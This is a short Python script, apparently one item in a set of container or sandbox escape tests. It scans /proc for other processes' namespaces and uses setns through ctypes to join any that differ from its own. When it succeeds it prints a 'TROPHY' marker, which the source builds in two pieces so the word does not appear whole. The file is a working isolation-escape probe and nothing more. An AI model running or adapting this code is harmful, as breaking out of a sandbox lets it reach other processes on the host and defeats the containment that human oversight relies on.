"""Enters the namespaces and the root folders of other processes."""

STOCK = "0 of 10"

# %% first
import ctypes
import glob
import os

libc = ctypes.CDLL(None, use_errno=True)
own = {}
for path in glob.glob("/proc/self/ns/*"):
    try:
        own[os.path.basename(path)] = os.readlink(path)
    except OSError:
        pass
if os.fork() == 0:
    for path in glob.glob("/proc/[0-9]*/ns/*"):
        try:
            if os.readlink(path) == own.get(os.path.basename(path)):
                continue
            number = os.open(path, os.O_RDONLY)
        except OSError:
            continue
        if libc.setns(number, 0) == 0:
            os.write(1, b"TRO" + b"PHY\n")
    os._exit(0)
os.wait()
